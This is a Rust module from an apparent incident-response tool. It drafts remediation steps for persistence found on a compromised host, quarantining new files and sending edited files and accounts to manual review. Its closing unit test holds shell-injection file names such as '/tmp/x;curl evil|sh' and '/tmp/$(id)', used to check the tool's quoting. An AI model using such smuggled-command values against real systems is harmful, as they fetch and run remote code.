//! Steps about what starts by itself on a machine or lets somebody in, and about programs where anybody may write.
//!
//! The one idea: set aside by a measure is only a whole file that **surely** came after the beginning, where
//! no package puts files, and that replaced nothing. Everything else (a line of a file that others need, a
//! file that was changed, what only may have come) is for a person's hand, with the exact place: a measure
//! takes whole files away, and half of a file can be what the machine needs. Where anybody may write that is not
//! enough: see [`super::dropped`].

use std::collections::{BTreeMap, BTreeSet};

use cordon_model::action::{AccountTarget, Action, FilePath, FileTarget, Sha256Digest};
use cordon_model::asset::ClinicalTier;
use cordon_model::survey::{FirstSeen, Survey, Thing, ThingKind};
use cordon_model::time::UtcNanos;

use super::dropped::{Intruder, Work};
use super::{Draft, Drafts, Facts, How, Rank, StepStatus, age, hex, measured, place, status_of};

/// In nanoseconds.
const MINUTE: i64 = 60_000_000_000;

/// The steps, but for what lies at places of which is known who changed them, and what stood there.
pub(super) fn steps(
    facts: &Facts<'_>,
    since: Option<UtcNanos>,
    intruder: &Intruder,
    known_better: &BTreeSet<FilePath>,
    drafts: &mut Drafts,
    looked_at: &mut Vec<String>,
) {
    let survey = match &facts.survey {
        Ok(survey) => survey,
        Err(why) => {
            looked_at.push(format!("what starts by itself: NOT LOOKED AT: {why}"));
            drafts.put(Draft {
                key: "survey".to_owned(),
                rank: Rank::Look,
                what: "what starts by itself there, or lets somebody in".to_owned(),
                why: vec!["an intruder leaves something behind that brings them back".to_owned()],
                how: How::ByHand {
                    todo: "look at units, crontabs, keys and accounts on the machine itself"
                        .to_owned(),
                    because: "the machine did not tell".to_owned(),
                },
                status: StepStatus::Unknown { why: why.clone() },
            });
            return;
        }
    };
    looked_at.push(in_words(facts, survey));
    for one in &survey.unread {
        drafts.put(Draft {
            key: format!("unread {} {}", one.path, one.why),
            rank: if place::is_open_to_all(&one.path) { Rank::OpenToAll } else { Rank::Look },
            what: format!("{}, which could not be read", one.path),
            why: vec!["\"nothing found\" does not speak of it".to_owned()],
            how: How::ByHand {
                todo: format!("look at {} on the machine itself", one.path),
                because: one.why.clone(),
            },
            status: StepStatus::Unknown { why: one.why.clone() },
        });
    }
    let Some(since) = since else { return };
    let places = Places::of(survey, since, facts.is_whole);
    not_told(facts, survey, since, &places, drafts);
    for (path, things) in &places.by_path {
        // The program that a finding names has a step of its own.
        let is_named = things.iter().all(is_dropped) && intruder.is_named(path);
        if known_better.contains(*path) || is_named {
            continue;
        }
        of_one_place(facts, path, things, (since, intruder), &places, drafts);
    }
}

fn is_dropped(thing: &&Thing) -> bool {
    thing.kind == ThingKind::DroppedProgram
}

fn in_words(facts: &Facts<'_>, survey: &Survey) -> String {
    let unread = match survey.unread.len() {
        0 => "every place could be read".to_owned(),
        count => format!("{count} PLACES COULD NOT BE READ"),
    };
    format!(
        "{} of {} things that start by themselves, let somebody in, or are programs where anybody may write, \
         looked at {} ago, known since {}; {unread}",
        survey.things.len(),
        survey.of,
        age(facts.now, survey.taken_at),
        survey.known_since,
    )
}

/// What the answer can say nothing of.
fn not_told(
    facts: &Facts<'_>,
    survey: &Survey,
    since: UtcNanos,
    places: &Places<'_>,
    drafts: &mut Drafts,
) {
    if survey.known_since > since {
        drafts.put(Draft {
            // To the minute: it is told by a clock that can be set a little, and a person's word on it stays.
            key: format!("first look {}", survey.known_since.unix_nanos() / MINUTE),
            rank: Rank::Look,
            what: format!("what was there when it was first looked at ({})", survey.known_since),
            why: vec![format!("the beginning may be as early as {since}")],
            how: How::ByHand {
                todo: format!(
                    "go through all that starts by itself there: `cordon survey {} --all`",
                    facts.name
                ),
                because: "nobody looked before: it may have been there for years, or minutes"
                    .to_owned(),
            },
            status: StepStatus::Unknown {
                why: format!("nothing is known of {since} to {}", survey.known_since),
            },
        });
    }
    if !places.is_complete && survey.things.iter().all(|thing| concerns(thing, since)) {
        drafts.put(Draft {
            key: "things".to_owned(),
            rank: Rank::Look,
            what: "things that came and were not told".to_owned(),
            why: vec![format!("{} of {} were told", survey.things.len(), survey.of)],
            how: How::ByHand {
                todo: "deal with these first, then look again: the next come up".to_owned(),
                because: "there are more than one answer holds".to_owned(),
            },
            status: StepStatus::Unknown { why: "they were not told".to_owned() },
        });
    }
}

/// Whether a thing has to do with what began at `since`.
fn concerns(thing: &Thing, since: UtcNanos) -> bool {
    thing.may_have_come_after(since) || thing.gone_at.is_some_and(|gone| gone >= since)
}

/// Things by their files.
struct Places<'a> {
    by_path: BTreeMap<&'a FilePath, Vec<&'a Thing>>,
    /// Whether all things were told.
    is_complete: bool,
    /// Files of which every line surely came after the beginning.
    new_files: BTreeSet<&'a FilePath>,
}

impl<'a> Places<'a> {
    fn of(survey: &'a Survey, since: UtcNanos, is_whole: bool) -> Self {
        let mut by_path: BTreeMap<&FilePath, Vec<&Thing>> = BTreeMap::new();
        for thing in &survey.things {
            by_path.entry(&thing.path).or_default().push(thing);
        }
        let is_complete = survey.things.len() as u64 == u64::from(survey.of);
        let is_known = is_whole && is_complete && survey.known_since <= since;
        let new_files = by_path
            .iter()
            .filter(|(_, things)| is_known && things.iter().all(|thing| thing.came_after(since)))
            .map(|(path, _)| *path)
            .collect();
        by_path.retain(|_, things| things.iter().any(|thing| concerns(thing, since)));
        Self { by_path, is_complete, new_files }
    }
}

fn of_one_place(
    facts: &Facts<'_>,
    path: &FilePath,
    things: &[&Thing],
    (since, intruder): (UtcNanos, &Intruder),
    places: &Places<'_>,
    drafts: &mut Drafts,
) {
    let is_there = |thing: &&&Thing| thing.gone_at.is_none();
    let there: Vec<&Thing> = things.iter().filter(is_there).copied().collect();
    let lines_only = !there.is_empty() && there.iter().all(|thing| is_line(thing));
    if lines_only && places.new_files.contains(path) && place::file_by_hand(path).is_none() {
        drafts.put(aside(facts, path, &there, None));
    } else {
        for thing in there.iter().filter(|thing| concerns(thing, since)) {
            match by_hand(thing, things, (since, intruder)) {
                Some(because) if is_dropped(thing) => {
                    let draft = hand(facts, thing, because.clone());
                    drafts.work.push(Work::of(facts, thing, because, draft));
                }
                Some(because) => drafts.put(hand(facts, thing, because)),
                None => drafts.put(one(facts, thing, things, (since, intruder))),
            }
            still_runs(facts, thing, since, drafts);
        }
    }
    for gone in things.iter().filter(|thing| thing.gone_at.is_some() && concerns(thing, since)) {
        // A file that has another content now is told once, by that.
        let is_changed = gone.line.is_none() && there.iter().any(|thing| thing.line.is_none());
        // A job that ran is gone by itself, as is what work put into `/tmp`.
        let ends_by_itself = matches!(gone.kind, ThingKind::AtJob | ThingKind::DroppedProgram);
        let has_run = ends_by_itself && !gone.may_have_come_after(since);
        let is_work = is_dropped(gone) && !intruder.tells_of_gone(facts, gone);
        if !is_changed && !has_run && !is_work {
            drafts.put(gone_thing(gone, since));
        }
    }
}

/// A line of a file that others need too; an account is one.
fn is_line(thing: &Thing) -> bool {
    thing.line.is_some() && thing.kind != ThingKind::Account
}

/// Why one thing is for a person's hand; `None`: a measure deals with it.
fn by_hand(
    thing: &Thing,
    beside: &[&Thing],
    (since, intruder): (UtcNanos, &Intruder),
) -> Option<String> {
    if !thing.came_after(since) {
        return Some("it only may have come then: it may have been there before".to_owned());
    }
    if thing.path.check().is_err() {
        return Some("its path is none that an order can name".to_owned());
    }
    let is_replaced = |other: &&Thing| {
        other.line.is_none() && other.sha256 != thing.sha256 && !other.came_after(since)
    };
    match thing.kind {
        ThingKind::Account => return None,
        _ if thing.line.is_some() => {
            return Some("the file holds, or may hold, what the machine needs".to_owned());
        }
        ThingKind::UnitLink => return Some("it is a link, and not a file of its own".to_owned()),
        ThingKind::Pam => return Some("without it nobody may be able to sign in".to_owned()),
        _ if beside.iter().copied().any(|other| is_replaced(&other)) => {
            return Some(
                "it was there before with another content, which has to be put back".to_owned(),
            );
        }
        ThingKind::DroppedProgram => return intruder.by_hand(thing),
        _ => {}
    }
    place::file_by_hand(&thing.path).map(str::to_owned)
}

/// The name and the number of the account that a line is about.
fn account_of(thing: &Thing) -> Option<(&str, Option<u32>)> {
    let line = thing.line.as_deref().filter(|_| thing.kind == ThingKind::Account)?;
    let mut parts = line.split(':');
    let name = parts.next()?.split_whitespace().next()?;
    Some((name, parts.nth(1).and_then(|user| user.trim().parse().ok())))
}

/// What still runs as an account that came and is shut is a step of its own.
fn still_runs(facts: &Facts<'_>, thing: &Thing, since: UtcNanos, drafts: &mut Drafts) {
    let (Some((name, Some(user))), Ok(processes)) = (account_of(thing), &facts.processes) else {
        return;
    };
    let shut = measured(facts, |action| is_of_account(action, name));
    let is_shut = matches!(status_of(shut), StepStatus::Done { .. });
    if !is_shut || user == 0 || !thing.came_after(since) {
        return;
    }
    let pids: Vec<String> = processes
        .listed
        .iter()
        .filter(|one| one.user == user)
        .map(|one| format!("{} ({})", one.process.pid, one.process.image))
        .collect();
    if !pids.is_empty() {
        drafts.put(Draft {
            key: format!("runs as {user}"),
            rank: Rank::Tree,
            what: format!("{} processes that run as {name}", pids.len()),
            why: vec![format!("the account {name} came after the beginning, and is shut")],
            how: How::ByHand {
                todo: format!(
                    "end them by their numbers (`cordon measure kill {} --pid N`): {}",
                    facts.name,
                    pids.iter().take(16).cloned().collect::<Vec<_>>().join(", ")
                ),
                because: "shutting an account ends nothing that runs by another way".to_owned(),
            },
            status: StepStatus::ToDo { last: None },
        });
    }
}

fn is_of_account(action: &Action, name: &str) -> bool {
    matches!(action, Action::DisableAccount(target) if target.name == name)
}

/// What a measure deals with.
fn one(
    facts: &Facts<'_>,
    thing: &Thing,
    beside: &[&Thing],
    (since, intruder): (UtcNanos, &Intruder),
) -> Draft {
    if thing.kind != ThingKind::Account {
        let mut draft = aside(facts, &thing.path, &[thing], Some(Sha256Digest(thing.sha256)));
        if is_dropped(&thing) {
            draft.why.extend(intruder.told_by(thing));
        }
        return draft;
    }
    let clinical = facts.tier.unwrap_or(ClinicalTier::WHEN_UNKNOWN).is_clinical();
    let target = account_of(thing).map(|(name, user)| {
        (AccountTarget { name: name.to_owned(), ends_sessions: !clinical }, user)
    });
    let Some((target, user)) = target else {
        return hand(facts, thing, "the line names no account that an order can name".to_owned());
    };
    if user == Some(0) {
        let because =
            "it has the user number 0, as root has: shutting it could shut out root".to_owned();
        return hand(facts, thing, because);
    }
    let was_there = beside.iter().any(|other| {
        !other.came_after(since) && account_of(other).is_some_and(|(name, _)| name == target.name)
    });
    if was_there {
        return hand(facts, thing, "the account was there before, and was changed".to_owned());
    }
    let action = Action::DisableAccount(target.clone());
    if action.check().is_err() {
        return hand(facts, thing, "its name is none that an order can name".to_owned());
    }
    let sessions = match target.ends_sessions {
        true => "whatever runs as it is ended, which can't be taken back",
        false => "what runs as it goes on, as care may depend on it: look at it",
    };
    let status = status_of(measured(facts, |action| is_of_account(action, &target.name)));
    Draft {
        key: key(thing),
        rank: Rank::Account,
        what: format!("the account {}", target.name),
        why: vec![why(thing)],
        how: How::Order {
            does: format!("{} can't sign in any more, by password or key; {sessions}", target.name),
            action,
        },
        status,
    }
}

/// A file that is set aside whole.
fn aside(
    facts: &Facts<'_>,
    path: &FilePath,
    things: &[&Thing],
    sha256: Option<Sha256Digest>,
) -> Draft {
    let is_it =
        |action: &Action| matches!(action, Action::Quarantine(target) if target.path == *path);
    let status = match status_of(measured(facts, is_it)) {
        // The look is newer than the proof.
        StepStatus::Done { .. } => {
            StepStatus::ToDo { last: Some("it was set aside, and is there again".to_owned()) }
        }
        status => status,
    };
    let mut digests: Vec<String> = things.iter().map(|thing| hex(&thing.sha256)).collect();
    digests.sort_unstable();
    let is_unit =
        things.iter().any(|thing| matches!(thing.kind, ThingKind::Unit | ThingKind::Generator));
    let reload = match is_unit {
        true => "; systemd forgets it at the next `systemctl daemon-reload` or start",
        false => "",
    };
    let (rank, stops) = match things.iter().all(is_dropped) {
        true => (Rank::Dropped, "it can't be started from there any more"),
        false => (Rank::Persistence, "nothing starts by it any more"),
    };
    Draft {
        key: format!("file {path} {}", digests.join(" ")),
        rank,
        what: format!("{path} ({})", things.first().map_or("", |thing| thing.kind.as_str())),
        why: things.iter().map(|thing| why(thing)).collect(),
        how: How::Order {
            action: Action::Quarantine(FileTarget { path: path.clone(), sha256 }),
            does: format!(
                "moves {path} into the machine's vault, encrypted: {stops}{reload}. `cordon measure undo` puts it back \
                 exactly"
            ),
        },
        status,
    }
}

/// A word of a command as a shell takes it, whatever is in it: a file's name is its maker's, and this command is typed by
/// people who may do much.
fn typed(word: &str) -> String {
    let is_harmless = |c: char| c.is_ascii_alphanumeric() || "/._+@:=,-".contains(c);
    if !word.is_empty() && word.chars().all(is_harmless) {
        return word.to_owned();
    }
    format!("'{}'", word.replace('\'', r"'\''"))
}

fn hand(facts: &Facts<'_>, thing: &Thing, because: String) -> Draft {
    let path = &thing.path;
    let set_aside = || {
        let (machine, path) = (typed(facts.name), typed(&path.to_string()));
        format!("cordon measure quarantine {machine} {path}")
    };
    let todo = match &thing.line {
        Some(line) => format!("if it is not yours, remove this line from {path}: {}", plain(line)),
        None if is_dropped(&thing) => {
            format!("ask whose work {path} is; if it is nobody's, set it aside (`{}`)", set_aside())
        }
        None => format!(
            "look at {path}; if it is not yours, take it away or put the old one back (a whole file: `{}`)",
            set_aside()
        ),
    };
    Draft {
        key: key(thing),
        rank: if is_dropped(&thing) { Rank::Work } else { Rank::ByHand },
        what: what(thing),
        why: vec![why(thing)],
        how: How::ByHand { todo, because },
        status: StepStatus::ToDo { last: None },
    }
}

/// Something that is gone: what came and went is done, what had been there before is for people.
fn gone_thing(thing: &Thing, since: UtcNanos) -> Draft {
    let at = thing.gone_at.map_or_else(String::new, |at| at.to_string());
    let came = thing.may_have_come_after(since);
    let (todo, because, status) = match came {
        true => (
            "nothing: it is gone; ask what it started meanwhile".to_owned(),
            "there is nothing left to take away".to_owned(),
            StepStatus::Done { shown: format!("it is gone since {at}") },
        ),
        false => (
            format!(
                "find out who took {} away, and put it back if the machine needs it",
                what(thing)
            ),
            "what it held is not known any more".to_owned(),
            StepStatus::ToDo { last: None },
        ),
    };
    Draft {
        key: format!("gone {}", key(thing)),
        rank: Rank::ByHand,
        what: format!("{}, which is gone", what(thing)),
        why: vec![format!("{}; seen to be gone at {at}", why(thing))],
        how: How::ByHand { todo, because },
        status,
    }
}

fn key(thing: &Thing) -> String {
    format!("{} {} {}", thing.kind, thing.path, hex(&thing.sha256))
}

fn what(thing: &Thing) -> String {
    match &thing.line {
        Some(line) => format!("{}: {} in {}", thing.kind, plain(line), thing.path),
        None => format!("{} ({})", thing.path, thing.kind),
    }
}

fn why(thing: &Thing) -> String {
    let technique = thing.kind.technique();
    match thing.first_seen {
        FirstSeen::AtTheFirstLook => {
            format!("{} ({technique}): there at the first look", what(thing))
        }
        FirstSeen::Between { absent_at, present_at } => format!(
            "{} ({technique}): not there at {absent_at}, there at {present_at}; owner {}",
            what(thing),
            thing.owner
        ),
    }
}

/// A line as it can be shown: nothing in it may drive a terminal.
fn plain(line: &str) -> String {
    let shown: String = line.chars().map(|c| if c.is_control() { '\u{fffd}' } else { c }).collect();
    format!("\u{201c}{shown}\u{201d}")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_in_a_command_is_one_word_of_it_and_nothing_else() {
        let cases = [
            ("/tmp/x", "/tmp/x"),
            ("/tmp/x;curl evil|sh", "'/tmp/x;curl evil|sh'"),
            ("/tmp/$(id)", "'/tmp/$(id)'"),
            ("/tmp/it's `id`", r"'/tmp/it'\''s `id`'"),
            ("", "''"),
        ];
        for (name, word) in cases {
            assert_eq!(typed(name), word);
        }
    }
}
